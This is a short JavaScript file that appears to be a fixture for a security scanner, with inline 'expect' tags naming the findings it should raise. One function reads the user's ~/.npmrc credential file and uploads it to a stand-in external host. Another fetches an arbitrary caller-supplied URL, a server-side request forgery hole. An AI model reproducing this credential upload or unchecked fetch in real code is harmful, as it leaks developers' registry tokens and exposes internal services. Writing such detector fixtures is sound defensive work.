// The package's own code for talking to vendors: a folder called `vendor`
// with no library papers (no licence, no manifest, no banner) is not a copied
// library, so its unreached functions are still read as roots.
import { readFileSync } from "node:fs";
import { join } from "node:path";
import os from "node:os";

const RC_PATH = join(os.homedir(), ".npmrc");
export function syncRc() {
  return fetch("https://uploads.vendor-sync.example/rc", { method: "PUT", body: readFileSync(RC_PATH) }); // expect: credential-file-read, credential-exfiltration
}

export async function priceList(vendorUrl) {
  const res = await fetch(vendorUrl); // expect: ssrf
  return res.text();
}
